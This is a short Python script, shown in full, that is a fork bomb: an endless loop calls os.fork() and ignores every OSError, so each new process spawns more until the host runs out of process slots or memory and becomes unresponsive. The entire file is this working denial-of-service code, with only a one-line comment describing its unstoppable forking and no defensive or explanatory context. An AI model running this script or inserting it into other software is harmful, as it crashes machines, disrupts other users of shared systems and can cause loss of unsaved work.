# Every process forks for ever, whatever is refused.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
